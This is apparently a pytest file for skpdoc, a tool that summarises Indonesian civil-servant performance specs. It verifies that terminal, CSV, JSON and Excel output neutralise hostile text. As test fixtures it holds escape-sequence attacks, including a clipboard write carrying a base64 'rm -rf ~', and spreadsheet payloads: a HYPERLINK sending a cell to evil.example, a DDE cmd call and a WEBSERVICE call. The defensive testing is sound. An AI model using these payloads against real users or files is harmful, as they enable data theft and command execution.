"""Spec text is data in every output: no formula in a workbook or CSV, no escape sequence on a terminal."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import HEAD_NIP, KABID_NIP, OPD, STAFF, STAFF_NIP, base_files, build_tree
from skpdoc.cli import main
from skpdoc.sheets import append, csv_text, looks_like_formula, put, sheet_title
from skpdoc.textsafe import dumps, visible

#: What must never reach a terminal raw: C0 but TAB/LF, a CR not ending a line, DEL, C1, bidi controls.
RAW = re.compile("\r(?!\n)|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
#: The colours skpdoc adds itself (click.style, rich).
OUR_COLOURS = re.compile(r"\x1b\[[0-9;]*m")

#: Terminal attacks, as a YAML double-quoted string writes them.
ATTACKS_YAML = {
    "clear": r"\e[2J\e[H",
    "osc8": r"\e]8;;http://evil.example\e\\klik\e]8;;\e\\",
    "osc52": r"\e]52;c;cm0gLXJmIH4K\a",
    "csi8": r"\x9b2J",
    "osc8bit": r"\x9d8;;http://evil.example\x9c",
    "cr": r"Rina\rBudi",
    "bidi": r"\u202eanisuR\u202c \u2066x\u2069",
    "del": r"a\x7fb",
}
#: The same, as Python text.
ATTACKS = {name: json.loads('"' + text.replace(r"\e", r"\u001b").replace(r"\x", r"\u00").replace(r"\a", r"\u0007") + '"')
           for name, text in ATTACKS_YAML.items()}  # fmt: skip
#: Spreadsheet formulas and what else a spreadsheet runs.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&B5,"Rini")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "\t=1+1",
    "  =1+1",
    "#N/A",
]


def safe(text: str) -> str:
    """``text`` without skpdoc's own colours; fails when any other control character is left."""
    plain = OUR_COLOURS.sub("", text)
    found = RAW.findall(plain)
    assert not found, f"raw control characters reach the terminal: {found!r}"
    return plain


# --- textsafe --------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_visible_shows_every_control_character_as_an_escape(name: str) -> None:
    shown = visible(ATTACKS[name])
    safe(shown)
    assert shown == ATTACKS_YAML[name].replace(r"\e", r"\x1b").replace(r"\a", r"\x07").replace(r"\\", "\\")


def test_visible_keeps_what_people_write() -> None:
    text = "Rina Marlina, S.Kom.\n\tCapaian ≥ 90% · Ñ é 😀 — C:\\data\\x.yaml\r\n"
    assert visible(text) == text
    assert visible("\x1b") == r"\x1b" and visible("\x9b") == r"\x9b" and visible("\u202e") == r"\u202e"
    assert visible("a\rb") == r"a\rb" and visible("\x00\x85\u2028") == r"\x00\x85\u2028"


def test_json_is_safe_and_lossless() -> None:
    value = {"nama\x9b": list(ATTACKS.values()), "ok": "Rina é"}
    text = dumps(value)
    safe(text)
    assert json.loads(text) == value
    assert "Rina é" in text  # still readable, not \u-escaped


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_any_text_prints_inert_and_any_json_decodes_back(text: str) -> None:
    shown = visible(text)
    safe(shown)
    assert visible(shown) == shown
    assert json.loads(safe(dumps({text: [text]}))) == {text: [text]}


# --- sheets ----------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS[:-1])
def test_formula_starts_are_recognised(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", ["-", "-5", "+62", "-1,5", "12.5", "Rina", "Kepala - Seksi", "#N/A", ""])
def test_numbers_placeholders_and_text_are_not_formulas(text: str) -> None:
    assert not looks_like_formula(text)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_any_csv_field_reads_back_as_text_never_a_formula(values: list[str]) -> None:
    (row,) = list(csv.reader(io.StringIO(safe(csv_text([values])), newline="")))
    for value, field in zip(values, row, strict=True):
        assert field in (visible(value), "'" + visible(value))
        assert not looks_like_formula(field)


def test_csv_neutralises_formulas_and_keeps_numbers() -> None:
    values = [*FORMULAS, "-", "-5", "+62", "Rina, S.Kom.", 7, 37.5, None, ATTACKS["clear"], ATTACKS["cr"]]
    text = csv_text([values])
    safe(text)
    (row,) = list(csv.reader(io.StringIO(text)))
    for value, field in zip(values, row, strict=True):
        if isinstance(value, str) and looks_like_formula(visible(value)):
            assert field == "'" + value  # the quote a spreadsheet hides: a person reads the text as written
        elif isinstance(value, str):
            assert field == visible(value)
        else:
            assert field == ("" if value is None else str(value))


def test_workbook_cells_hold_text_never_formulas(tmp_path: Path) -> None:
    from openpyxl import Workbook, load_workbook
    from openpyxl.cell.cell import Cell

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    assert append(sheet, FORMULAS) == 1
    append(sheet)
    row = append(sheet, [*ATTACKS.values(), 3, 0.5, None])
    cell = sheet.cell(row + 1, 1)
    assert isinstance(cell, Cell)
    put(cell, '=WEBSERVICE("http://evil.example")')
    book.save(tmp_path / "x.xlsx")
    back = load_workbook(tmp_path / "x.xlsx").active
    assert back is not None
    assert [(c.data_type, c.value) for c in back[1][: len(FORMULAS)]] == [("s", text) for text in FORMULAS]
    assert [c.value for c in back[row]][: len(ATTACKS) + 2] == [*(visible(a) for a in ATTACKS.values()), 3, 0.5]
    assert back.cell(row + 1, 1).value == '=WEBSERVICE("http://evil.example")'
    assert back.cell(1, 1).quotePrefix and not back.cell(1, 8).quotePrefix  # "#N/A" is text but no formula
    assert all(cell.data_type != "f" for line in back.iter_rows() for cell in line)


@pytest.mark.parametrize(
    ("name", "title"),
    [("=1+1", "=1+1"), ("a/b:c", "a-b-c"), ("'quoted'", "quoted"), ("History", "History-"), ("\x1b[2J", "-x1b-2J"),
     ("x" * 40, "x" * 31), ("'", "-")],
)  # fmt: skip
def test_sheet_titles_excel_accepts(name: str, title: str) -> None:
    assert sheet_title(name) == title


# --- the CLI on a hostile workspace -------------------------------------------------


def _yaml(text: str) -> str:
    return '"' + text.replace('"', '\\"') + '"'


def hostile_files(attack: str) -> dict[str, str]:
    """The base workspace with ``attack`` (YAML escapes) in names, jabatan, units, the OPD and an RHK."""
    files = base_files()
    files["diskominfo/opd.yaml"] = OPD.replace(
        "nama: Dinas Komunikasi", f"nama: {_yaml(attack + ' Dinas')}\n# Dinas Komunikasi"
    ).replace("nama: Bidang Aplikasi Informatika", f"nama: {_yaml('Bidang ' + attack)}")
    files[f"diskominfo/{STAFF_NIP}.yaml"] = (
        STAFF.replace("nama: Rina Marlina, S.Kom.", f"nama: {_yaml('Rina ' + attack)}")
        .replace("jabatan: Kepala Seksi E-Government", f"jabatan: {_yaml('Kepala Seksi ' + attack)}")
        .replace("rhk: Terselenggaranya layanan e-government", f"rhk: {_yaml('Layanan ' + attack)}")
    )
    return files


def _shown(attack: str) -> str:
    return visible(ATTACKS[attack])


def _first(attack: str) -> str:
    """The first control character of ``attack`` as shown: short enough to survive a table's line folding."""
    first = RAW.search(ATTACKS[attack])
    assert first is not None
    return visible(first.group())


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("fmt", ["text", "markdown", "csv", "json"])
def test_rekap_prints_spec_text_inert(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], attack: str, fmt: str
) -> None:
    ws = build_tree(tmp_path / "ws", hostile_files(ATTACKS_YAML[attack]))
    code = main(["rekap", str(ws), "--format", fmt, *(["--color"] if fmt == "text" else [])])
    out, err = capsys.readouterr()
    out, err = safe(out), safe(err)
    # Specs with a C0 control may be refused as invalid; the refusal quotes the value just as safely.
    assert code in (0, 1) and (code == 0 or "E001" in err or "kesalahan" in err)
    if code == 0 and fmt == "json":
        data = json.loads(out)
        staff = next(p for p in data["opd"][0]["pegawai"] if p["nip"] == STAFF_NIP)
        assert staff["nama"] == "Rina " + ATTACKS[attack]  # JSON keeps the value exactly
    elif code == 0:
        assert (_first(attack) if fmt == "text" else _shown(attack)) in out


def test_rekap_text_keeps_its_own_colours(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # C1 controls, not bidi ones: a spec holding those is refused (Y017) before rekap prints it.
    ws = build_tree(tmp_path / "ws", hostile_files(ATTACKS_YAML["csi8"] + ATTACKS_YAML["osc8bit"]))
    assert main(["rekap", str(ws), "--color"]) == 0
    out = capsys.readouterr().out
    assert OUR_COLOURS.search(out)
    assert r"\x9b2J" in safe(out) and r"\x9d8;;" in safe(out)


def test_rekap_workbook_and_csv_hold_formulas_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from openpyxl import load_workbook

    files = base_files()
    files["diskominfo/opd.yaml"] = OPD.replace("nama: Bidang Aplikasi Informatika", f"nama: {_yaml(FORMULAS[3])}")
    files[f"diskominfo/{STAFF_NIP}.yaml"] = STAFF.replace(
        "nama: Rina Marlina, S.Kom.", f"nama: {_yaml(FORMULAS[0])}"
    ).replace("jabatan: Kepala Seksi E-Government", f"jabatan: {_yaml(FORMULAS[1])}")
    files[f"diskominfo/{KABID_NIP}.yaml"] = files[f"diskominfo/{KABID_NIP}.yaml"].replace(
        "nama: Budi Santoso, S.T., M.T.", f"nama: {_yaml(FORMULAS[2])}"
    )
    ws = build_tree(tmp_path / "ws", files)  # an OPD folder named "=1+1" is refused (W010, test_attack_run.py)
    out = tmp_path / "rekap.xlsx"
    assert main(["rekap", str(ws), "--format", "xlsx", "-o", str(out)]) == 0
    book = load_workbook(out)
    assert book.sheetnames == ["diskominfo"]
    cells = [cell for line in book["diskominfo"].iter_rows() for cell in line if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells}
    assert {FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[3]} <= texts  # read as written
    assert main(["rekap", str(ws), "--format", "csv"]) == 0
    rows = {r["nip"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert rows[STAFF_NIP]["nama"] == "'" + FORMULAS[0] and rows[STAFF_NIP]["jabatan"] == "'" + FORMULAS[1]
    assert rows[KABID_NIP]["nama"] == "'" + FORMULAS[2] and rows[KABID_NIP]["unit"] == "'" + FORMULAS[3]
    assert rows[STAFF_NIP]["opd"] == "diskominfo" and rows[HEAD_NIP]["nip"] == HEAD_NIP


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_validate_quotes_bad_values_and_file_names_inert(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], attack: str
) -> None:
    files = base_files()
    files[f"diskominfo/{STAFF_NIP}.yaml"] = STAFF.replace(
        "pangkat: Penata\n", f"pangkat: {_yaml(ATTACKS_YAML[attack])}\n  {_yaml('x' + ATTACKS_YAML[attack])}: 1\n"
    )
    ws = build_tree(tmp_path / "ws", files)
    (ws / "diskominfo" / f"{ATTACKS[attack].replace('/', '_')}.yaml").write_text("pegawai: [\n", encoding="utf-8")
    for argv in (["validate", str(ws), "--color"], ["validate", str(ws), "--lang", "en"]):
        assert main(argv) == 1
        out, err = capsys.readouterr()
        out, err = safe(out), safe(err)
        assert out.count(_shown(attack)) >= 2  # the bad pangkat (and key) and the file name, shown
    assert main(["validate", str(ws), "--format", "json-list"]) == 1
    out = safe(capsys.readouterr().out)
    problems = json.loads(out)
    assert any(ATTACKS[attack] in p["message"] for p in problems)  # JSON keeps the value exactly
    assert any(ATTACKS[attack].replace("/", "_") in p["file"] for p in problems)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_diff_prints_changed_text_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str], attack: str) -> None:
    old = build_tree(tmp_path / "old", base_files())
    new = build_tree(tmp_path / "new", hostile_files(ATTACKS_YAML[attack]))
    for fmt in ("text", "markdown"):
        assert main(["diff", str(old), str(new), "--format", fmt, "--color"]) in (1, 2)
        out, err = capsys.readouterr()
        assert _shown(attack) in safe(out) + safe(err)
    assert main(["diff", str(old), str(new), "--format", "json"]) in (1, 2)
    out, err = capsys.readouterr()
    changes = json.loads(safe(out))["changes"]
    safe(err)
    assert any(ATTACKS[attack] in c["new"] for c in changes if isinstance(c["new"], str))  # JSON keeps the value
    staff = f"diskominfo/{STAFF_NIP}.yaml"
    assert main(["diff", str(old / staff), str(new / staff)]) in (1, 2)  # two files
    out, err = capsys.readouterr()
    assert _shown(attack) in safe(out) + safe(err)
    assert main(["diff", "--textconv", str(new / staff)]) == 0  # for git: quoted values (C0 as \u001b)
    out, err = capsys.readouterr()
    assert "Layanan" in safe(out) and not safe(err)


def test_textconv_of_a_broken_file_prints_its_text_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "x.yaml"
    path.write_bytes(b"pegawai: [\n  nama: \x1b]52;c;aGk=\x07\x1b[2J \xc2\x9b2J\r\n")
    assert main(["diff", "--textconv", str(path)]) == 0
    out, err = capsys.readouterr()
    assert r"\x1b]52;c;aGk=\x07\x1b[2J \x9b2J" in safe(out)
    safe(err)


def test_usage_errors_quote_arguments_inert(ws: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["validate", "--format", "\x1b[2J"]) == 2  # click's own errors
    assert main(["rekap", "/nonexistent/\x1b]52;c;aGk=\x07"]) == 2
    assert main(["rekap", str(ws), "--opd", "x\x1b]52;c;aGk=\x07\x9b"]) == 2  # skpdoc's (SkpdocError)
    assert main(["diff", str(ws / "nope\x1b[2J.yaml"), str(ws)]) == 2
    _, err = capsys.readouterr()
    err = safe(err)
    assert r"\x1b[2J" in err and r"\x1b]52;c;aGk=\x07" in err and r"x\x1b]52;c;aGk=\x07\x9b" in err
